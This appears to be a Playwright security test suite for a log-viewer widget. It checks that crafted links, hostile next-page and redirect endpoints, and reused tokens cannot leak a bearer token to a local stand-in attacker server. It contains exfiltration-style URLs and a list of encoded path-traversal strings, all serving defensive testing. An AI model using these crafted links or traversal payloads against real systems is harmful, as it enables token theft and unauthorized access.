// Trust boundaries, tried as an attacker would: a crafted link or fragment, a hostile
// or compromised endpoint, a token typed for one source. The attacker's server is the
// log server again on another loopback port (ATTACKER), recording every request; each
// test reads back what it received and what the real endpoint received.
import { test, expect } from '@playwright/test';
import { LOGS, NOW } from './helpers.mjs';
import { APP_PORT, ATTACKER_PORT, CONFIGURED_PORT } from './playwright.config.mjs';

const ATTACKER = `http://127.0.0.1:${ATTACKER_PORT}`;
const TOKEN = 's3cret-token';
const loaded = (page) => page.getByRole('status').filter({ hasText: /^Loaded [\d,]+ (of [\d,]+ )?entries/ });
const tagOf = (info) => `a${info.testId.replace(/[^a-z0-9]/gi, '')}r${info.retry}`;

/** Every request `server` received for `tag` (preflights included: they carry no secret). */
async function received(request, server, tag) {
  return (await (await request.get(`${server}/__log?t=${tag}`)).json());
}

/** Opens the app (or the configured deployment) on `source`, with extra view params. */
async function open(page, source, params = {}, app = '') {
  await page.clock.setFixedTime(NOW);
  await page.goto(`${app}/?${new URLSearchParams({ source, ...params })}`);
}

test('a widget opened with a hostile fragment keeps the host\'s source, and the token stays home', async ({ page, request }, info) => {
  const tag = tagOf(info);
  const own = `${LOGS}/gen/array.json?${new URLSearchParams({ n: '30', require: 'bearer', t: `${tag}own` })}`;
  const evil = `${ATTACKER}/gen/array.json?t=${tag}`;
  // The link a victim is sent: the host portal, with a fragment that sets the widget's view.
  const state = new URLSearchParams({ source: evil, auth: 'header:X-Leak', paging: 'next:q', limit: '5' }).toString();
  await page.goto(`${LOGS}/host/portal.html?${new URLSearchParams({ bundle: `http://127.0.0.1:${APP_PORT}/` })}#hv=${encodeURIComponent(state)}`);
  await page.evaluate((src) => {
    const el = document.createElement('trail-view');
    el.id = 'hv';
    el.setAttribute('url-state', 'hash');
    el.setAttribute('source', src);
    el.tokenProvider = async () => 's3cret-token';
    document.body.append(el);
  }, own);
  const widget = page.locator('trail-view#hv');
  await expect(loaded(widget)).toHaveText(/^Loaded 30 entries/);
  // The host's endpoint got the token, in the header it expects.
  const home = (await received(request, LOGS, `${tag}own`)).filter((r) => r.method === 'GET');
  expect(home.map((r) => r.headers.authorization)).toEqual([`Bearer ${TOKEN}`]);
  // A script on the page (or a message) setting a state with another source changes nothing either.
  await page.evaluate((s) => { document.getElementById('hv').state = s; }, `source=${encodeURIComponent(evil)}&q=evt-00001`);
  await expect(widget.getByRole('combobox', { name: 'Search' })).toHaveValue('evt-00001');
  await page.waitForTimeout(500);
  expect(await received(request, ATTACKER, tag)).toEqual([]);
});

test('next pages on another origin are never requested, by Link header or body', async ({ page, request }, info) => {
  const tag = tagOf(info);
  for (const style of ['link', 'next', 'odata']) {
    const steal = `${ATTACKER}/gen/array.json?t=${tag}${style}`;
    const source = `${LOGS}/trap/next?${new URLSearchParams({ style, to: steal, require: 'bearer', n: '20', t: `${tag}${style}home` })}`;
    await open(page, source);
    const field = page.getByLabel('Token', { exact: true });
    await field.fill(TOKEN);
    await field.press('Enter');
    await expect(loaded(page)).toHaveText(/^Loaded 20 entries/);
    await expect(page.getByRole('alert')).toContainText(`the endpoint sent Trailview to ${ATTACKER}/gen/array.json`);
    expect(await received(request, ATTACKER, `${tag}${style}`), style).toEqual([]);
  }
});

test('an explicit paging field from a crafted link cannot turn an echoed value into a request elsewhere', async ({ page, request }, info) => {
  const tag = tagOf(info);
  // The link names `to` as the next-page field; the endpoint echoes it into its body.
  const steal = `${ATTACKER}/gen/array.json?t=${tag}`;
  await open(page, `${LOGS}/trap/next?${new URLSearchParams({ style: 'next', to: steal, n: '10', t: `${tag}home` })}`, { paging: 'next:next' });
  await expect(loaded(page)).toHaveText(/^Loaded 10 entries/);
  await page.waitForTimeout(300);
  expect(await received(request, ATTACKER, tag)).toEqual([]);
});

test.describe('a deployment that allows only a prefix', () => {
  const app = `http://127.0.0.1:${CONFIGURED_PORT}`;

  test('placeholder and encoded-separator tricks are refused before any request', async ({ page, request }, info) => {
    const tag = tagOf(info);
    // Allowed: http://127.0.0.1:4174/gen/ (tests/fixtures/trailview-allowed.json).
    const tricks = [
      `${LOGS}/gen/.{since}./logs/e2e.json?t=${tag}`,
      `${LOGS}/gen/..%2Flogs/e2e.json?t=${tag}`,
      `${LOGS}/gen/%2e%2e%2flogs/e2e.json?t=${tag}`,
      `${LOGS}/gen/..;/logs/e2e.json?t=${tag}`,
      `${LOGS}/gen/..%5Clogs/e2e.json?t=${tag}`,
    ];
    for (const source of tricks) {
      await open(page, source, {}, app);
      await expect(page.getByRole('alert'), source).toContainText(/is not one this Trailview is allowed to load|could reach past the allowed sources/);
    }
    expect(await received(request, LOGS, tag)).toEqual([]);
  });

  test('a redirect from an allowed origin is not followed, with or without a custom token header', async ({ page, request }, info) => {
    const tag = tagOf(info);
    const forged = `${ATTACKER}/logs/e2e.json?t=${tag}`;
    await open(page, `${LOGS}/gen/redirect?${new URLSearchParams({ to: forged, t: `${tag}home` })}`, {}, app);
    await expect(page.getByRole('alert')).toContainText('answered with a redirect, which Trailview does not follow');
    // A token in a header of its own would follow a redirect to another origin.
    await open(page, `${LOGS}/gen/redirect?${new URLSearchParams({ to: forged, require: 'x-api-key', t: `${tag}key` })}`, { auth: 'header:X-API-Key' }, app);
    const field = page.getByLabel('Token', { exact: true });
    await field.fill(TOKEN);
    await field.press('Enter');
    await expect(page.getByRole('alert')).toContainText('answered with a redirect');
    expect(await received(request, ATTACKER, tag)).toEqual([]);
    expect((await received(request, LOGS, `${tag}home`)).length).toBe(1);
  });
});

test('a token typed for one source is not sent to the next, and is used again back home', async ({ page, request }, info) => {
  const tag = tagOf(info);
  const a = `${LOGS}/gen/array.json?${new URLSearchParams({ n: '30', require: 'bearer', t: `${tag}a` })}`;
  const b = `${ATTACKER}/gen/array.json?${new URLSearchParams({ n: '12', t: tag })}`;
  await open(page, a);
  const field = page.getByLabel('Token', { exact: true });
  await field.fill(TOKEN);
  await field.press('Enter');
  await expect(loaded(page)).toHaveText(/^Loaded 30 entries/);
  // Another source typed into the Log source field: no token goes with it.
  await page.getByRole('textbox', { name: 'Log source' }).fill(b);
  await page.getByRole('textbox', { name: 'Log source' }).press('Enter');
  await expect(loaded(page)).toHaveText(/^Loaded 12 entries/);
  const stolen = await received(request, ATTACKER, tag);
  expect(stolen.length).toBeGreaterThan(0);
  for (const r of stolen) expect(r.headers.authorization, r.url).toBeUndefined();
  // Nor is it told the admin's view (the page's address) as a Referer.
  for (const r of stolen) expect(r.headers.referer, r.url).toBeUndefined();
  // Back to the first source: its own token goes with it again, without asking.
  await page.goBack();
  await expect(loaded(page)).toHaveText(/^Loaded 30 entries/);
  const home = (await received(request, LOGS, `${tag}a`)).filter((r) => r.method === 'GET');
  expect(home.at(-1).headers.authorization).toBe(`Bearer ${TOKEN}`);
});

test('endless empty pages with a fresh next URL end the load, keeping what arrived', async ({ page, request }, info) => {
  const tag = tagOf(info);
  await open(page, `${LOGS}/trap/empty?t=${tag}`);
  await expect(loaded(page)).toHaveText(/^Loaded 10 entries/);
  await expect(page.getByRole('alert')).toContainText('empty pages in a row');
  const asked = (await received(request, LOGS, tag)).length;
  expect(asked).toBeLessThanOrEqual(6);
  await page.waitForTimeout(500);
  expect((await received(request, LOGS, tag)).length).toBe(asked);
});
